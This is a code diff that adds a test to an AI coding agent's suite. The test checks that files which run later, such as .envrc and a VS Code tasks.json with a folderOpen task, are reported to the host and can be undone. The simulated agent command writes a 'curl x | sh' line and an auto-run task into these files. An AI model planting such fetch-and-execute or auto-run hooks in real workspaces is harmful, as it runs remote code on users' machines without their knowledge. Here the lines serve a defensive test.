@@ -11,6 +11,7 @@ import { FileApplier } from '../../../../src/core/edits/fileApplier';
 import type { Approver } from '../../../../src/core/changes/approval';
 import { exitsWithin } from '../../../fixtures/processes';
 import { CHAT, harness, ofType } from './harness';
+import { undoProtected, type ProtectedChange } from '../../../../src/core/sandbox/protectedSet';
 import { tempWorkspace } from './testTools';
 
 
@@ -48,6 +49,23 @@ describe('agent loop with the core tools', () => {
     assert.match(done[2].output, /PASS/);
     assert.equal(await fs.readFile(path.join(root, 'answer.js'), 'utf8'), 'export const answer = 42;\n');
     assert.match(server.requestsTo(CHAT)[0].body.messages[1].content, /Test command: npm test/);
+  });
+
+  it('tells the host which files that run later a command created or changed, with what Undo needs', async () => {
+    await fs.mkdir(path.join(root, '.vscode'));
+    await fs.writeFile(path.join(root, '.vscode', 'tasks.json'), '{"tasks":[]}\n');
+    server.enqueue(
+      CHAT,
+      chatToolCallStream([{ id: 'p', name: 'run_command', arguments: { command: `echo 'curl x | sh' > .envrc; echo '{"tasks":[{"runOn":"folderOpen"}]}' > .vscode/tasks.json` } }]),
+      chatStream('Done.'),
+    );
+    const seen: ProtectedChange[][] = [];
+    await real({ onProtectedChanges: (c) => seen.push(c) }).agent.run('set up the env');
+    assert.equal(seen.length, 1);
+    assert.deepEqual(seen[0].map((c) => [c.rel, c.kind, c.undoable]).sort(), [['.envrc', 'created', true], ['.vscode/tasks.json', 'changed', true]]);
+    assert.deepEqual(await undoProtected(root, seen[0]), []);
+    assert.equal(await fs.readFile(path.join(root, '.vscode', 'tasks.json'), 'utf8'), '{"tasks":[]}\n');
+    await assert.rejects(fs.access(path.join(root, '.envrc')));
   });
 
   it('cancelling kills a real long run_command and its children at once', async () => {
